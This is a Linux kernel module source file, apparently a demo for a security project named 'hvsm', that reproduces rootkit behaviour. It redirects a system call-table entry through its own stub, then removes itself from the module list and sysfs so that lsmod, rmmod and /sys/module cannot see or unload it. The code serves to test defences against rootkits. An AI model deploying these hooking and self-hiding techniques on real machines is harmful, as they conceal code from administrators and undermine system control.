// SPDX-License-Identifier: GPL-2.0
/*
 * For `make demo`: what well-known rootkits do, and nothing more. A system call's entry leads
 * into this module, which counts and goes on to the original; and the module takes itself off
 * the list of modules and out of sysfs, so that lsmod, rmmod and /sys/module do not know it.
 * It cannot be unloaded.
 */
#include <linux/rculist.h>

#include "lab.h"

static unsigned int nr = 62;
module_param(nr, uint, 0444);
MODULE_PARM_DESC(nr, "number of the system call (default: kill)");
LAB_STUB();

static int __init rootkit_init(void)
{
	unsigned long stub = (unsigned long)lab_stub;
	struct mutex *mutex;
	unsigned long *table;
	int r = lab_init();

	if (r)
		return r;
	mutex = lab_symbol("module_mutex");
	table = lab_symbol("sys_call_table");
	if (!mutex || !table || nr >= 300)
		return -EINVAL;
	lab_target = table[nr];
	r = lab_poke(&table[nr], &stub, sizeof(stub));
	if (r)
		return r;

	kobject_del(&THIS_MODULE->mkobj.kobj);
	mutex_lock(mutex);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(mutex);
	return 0;
}

module_init(rootkit_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hvsm demo: hooks a system call and hides");
